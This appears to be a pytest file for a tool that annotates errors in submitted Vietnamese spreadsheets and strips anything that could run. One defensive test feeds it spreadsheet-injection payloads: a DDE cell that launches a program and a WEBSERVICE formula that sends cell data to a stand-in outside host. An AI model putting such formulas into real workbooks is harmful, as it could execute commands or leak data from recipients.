"""A marked copy shows a sender the cells to put right, and carries nothing that could run."""

from __future__ import annotations

import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font

from engine.feedback.annotate import annotate, by_file
from engine.intake.workbook import read_book
from tests.feedback.conftest import BAD, GOOD, HEADER, Check
from tests.intake.made import workbook

RED = "00FFC7CE"


def marked(path: Path, check: Check, lang: str = "vi") -> Any:
    target = path.with_name("copy.xlsx")
    annotate(path.read_bytes(), read_book(path), by_file(check(path).noted)[path.name], target, lang)
    return openpyxl.load_workbook(target)


def listed(copy: Any) -> list[tuple[Any, ...]]:
    rows = copy.worksheets[0].iter_rows(min_row=5, values_only=True)
    return [tuple(value for value in row) for row in rows]


def colour(cell: Any) -> str | None:
    return cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else None


def test_the_cells_are_coloured_and_commented(book: Path, check: Check) -> None:
    sheet = marked(book, check)["Danh sách"]
    assert [colour(sheet[ref]) for ref in ("E4", "G4", "E3", "G3")] == [RED, RED, None, None]
    assert sheet["E4"].comment.text.startswith("Xã, phường: ghi “Xã Phước Vin”; không có trong danh sách đơn vị")
    assert sheet["G3"].comment is None


def test_a_row_that_is_no_candidate_is_coloured_whole(book: Path, check: Check) -> None:
    sheet = marked(book, check)["Danh sách"]
    assert {colour(cell) for cell in sheet[5]} == {RED}
    assert "thiếu “Họ và tên" in sheet["A5"].comment.text


def test_the_first_sheet_lists_everything_with_links(book: Path, check: Check) -> None:
    copy = marked(book, check)
    assert copy.sheetnames == ["Lỗi cần sửa", "Danh sách"]
    assert [row[1:6] for row in listed(copy)] == [
        ("Lỗi", "Danh sách", "E4", "Trần Thị Bình", "Xã Phước Vin"),
        ("Lỗi", "Danh sách", "5:5", None, None),
        ("Lỗi", "Danh sách", "G4", "Trần Thị Bình", "nhiều"),
    ]
    assert copy.worksheets[0]["D5"].hyperlink.location == "'Danh sách'!E4"
    assert marked(book, check, "en").sheetnames[0] == "To put right"


def test_the_rest_of_the_workbook_is_as_it_was(tmp_path: Path, check: Check, book: Path) -> None:
    own = openpyxl.load_workbook(book)
    own["Danh sách"]["B3"].font = Font(name="Times New Roman", bold=True)
    own["Danh sách"]["B3"].comment = Comment("đã xem", "chị Hoa")
    own["Danh sách"].column_dimensions["B"].width = 44
    own.save(book)
    sheet = marked(book, check)["Danh sách"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2, max_row=3)] == [HEADER, GOOD]
    assert (sheet["B3"].font.bold, sheet["B3"].comment.text) == (True, "đã xem")
    assert sheet.column_dimensions["B"].width == 44


def test_a_comment_that_was_there_is_kept_above_ours(check: Check, book: Path) -> None:
    own = openpyxl.load_workbook(book)
    own["Danh sách"]["E4"].comment = Comment("hỏi lại xã", "chị Hoa")
    own.save(book)
    assert marked(book, check)["Danh sách"]["E4"].comment.text.startswith("hỏi lại xã\nXã, phường: ghi")


def test_a_formula_becomes_its_result_and_no_text_becomes_a_formula(tmp_path: Path, check: Check) -> None:
    path = workbook(tmp_path / "a.xlsx", {"S": [
        HEADER, [1, "=cmd|'/c calc'!A1", "Cá nhân", "Cá nhân", "@SUM(1)", "+84 123", "nhiều"], [2, *GOOD[1:6], 1],
    ]})  # fmt: skip
    own = openpyxl.load_workbook(path)
    own["S"]["G3"] = '=WEBSERVICE("http://x/"&A1)'
    own["S"]["H2"] = "=1+1"
    own.save(path)
    copy = marked(path, check)
    for sheet in copy.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.quotePrefix, cell.coordinate
    assert copy["S"]["B2"].value == "=cmd|'/c calc'!A1"


def test_links_to_other_files_and_macros_stay_behind(tmp_path: Path, check: Check, book: Path) -> None:
    own = openpyxl.load_workbook(book)
    own["Danh sách"]["B3"].hyperlink = "http://example.org/"
    own.save(book)
    macro = tmp_path / "xa.xlsm"
    with zipfile.ZipFile(book) as source, zipfile.ZipFile(macro, "w") as target:
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        target.writestr("xl/vbaProject.bin", b"x")
    marked(macro, check)
    with zipfile.ZipFile(tmp_path / "copy.xlsx") as copy:
        everything = b"".join(copy.read(name) for name in copy.namelist())
        assert not [name for name in copy.namelist() if "vba" in name or "externalLink" in name]
    assert b"example.org" not in everything


def test_a_copy_that_comes_back_is_marked_afresh(tmp_path: Path, book: Path, check: Check) -> None:
    marked(book, check)
    again = (tmp_path / "copy.xlsx").rename(tmp_path / "again.xlsx")
    own = openpyxl.load_workbook(again)
    own["Danh sách"]["E4"] = "Xã Phước Vinh"
    own.save(again)
    copy = marked(again, check)
    assert copy.sheetnames == ["Lỗi cần sửa", "Danh sách"]
    sheet = copy["Danh sách"]
    assert (colour(sheet["E4"]), sheet["E4"].comment) == (None, None)
    assert (colour(sheet["G4"]), sheet["G4"].comment.text.count("nhiều")) == (RED, 1)
    assert [row[3] for row in listed(copy)] == ["5:5", "G4"]


@pytest.mark.parametrize("name", ["xa.csv", "xa.ods"])
def test_other_kinds_of_file_are_copied_by_their_values(tmp_path: Path, check: Check, name: str) -> None:
    path = tmp_path / name
    rows = [HEADER, GOOD, [*BAD[:4], "=1+1", *BAD[5:]]]
    if name.endswith("csv"):
        path.write_text("\n".join(";".join(map(str, row)) for row in rows), encoding="utf-8")
    else:
        ods(path, rows)
    copy = marked(path, check)
    sheet = copy.worksheets[1]
    assert [cell.value for cell in sheet[1]] == HEADER
    assert (sheet["E3"].value, sheet["E3"].data_type, colour(sheet["E3"])) == ("=1+1", "s", RED)
    assert colour(sheet["G3"]) == RED


def ods(path: Path, rows: list[list[object]]) -> None:
    def cell(value: object) -> str:
        if isinstance(value, int):
            return f'<table:table-cell office:value-type="float" office:value="{value}"/>'
        return f'<table:table-cell office:value-type="string"><text:p>{value}</text:p></table:table-cell>'

    lines = "".join(f"<table:table-row>{''.join(map(cell, row))}</table:table-row>" for row in rows)
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        f'<table:table table:name="DS">{lines}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", "<manifest/>")


def test_a_cell_inside_a_merged_range_is_marked_where_its_value_stands(tmp_path: Path, check: Check) -> None:
    header = [*HEADER, "Điểm chấm"]
    path = workbook(
        tmp_path / "a.xlsx",
        {"S": [header, [*GOOD, "nhiều"], [2, "Bình", *GOOD[2:], None]]},
        {"S": ["H2:H3"]},
    )
    sheet = marked(path, check)["S"]
    assert colour(sheet["H2"]) == RED
